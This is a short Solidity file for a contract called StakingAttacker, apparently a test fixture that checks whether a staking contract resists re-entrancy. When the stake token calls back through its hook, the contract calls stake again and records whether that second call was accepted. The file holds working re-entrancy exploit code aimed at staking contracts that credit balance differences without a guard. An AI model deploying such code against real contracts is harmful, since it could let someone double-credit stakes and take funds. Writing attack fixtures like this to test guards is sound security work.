// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IStaking {
    function stake(uint256 tierId, uint256 amount) external returns (uint256);
}

interface ICallbackToken {
    function approve(address spender, uint256 amount) external returns (bool);

    function registerHook(bool on) external;
}

/// @notice Attacker of a staking tier whose stake token calls the sender back before moving its tokens
/// (`CallbackToken`): during its `stake`, the hook stakes again. A staking contract that credits the difference
/// of its balance around the transfer, without a re-entrancy guard, would credit the inner stake twice.
contract StakingAttacker {
    IStaking public immutable staking;
    ICallbackToken public immutable token;
    uint256 private _tierId;
    uint256 private _reentryAmount;
    bool private _armed;
    bool public reentryAccepted;
    bytes public lastRevert;

    constructor(IStaking staking_, ICallbackToken token_) {
        staking = staking_;
        token = token_;
        token_.approve(address(staking_), type(uint256).max);
        token_.registerHook(true);
    }

    /// @notice Stakes `amount`, re-entering `stake` with `reentryAmount` from the token's hook (once).
    function attack(uint256 tierId, uint256 amount, uint256 reentryAmount) external {
        _tierId = tierId;
        _reentryAmount = reentryAmount;
        _armed = true;
        staking.stake(tierId, amount);
    }

    function tokensToSend(address, address, uint256) external {
        if (!_armed) return;
        _armed = false;
        try staking.stake(_tierId, _reentryAmount) {
            reentryAccepted = true;
        } catch (bytes memory reason) {
            lastRevert = reason;
        }
    }
}
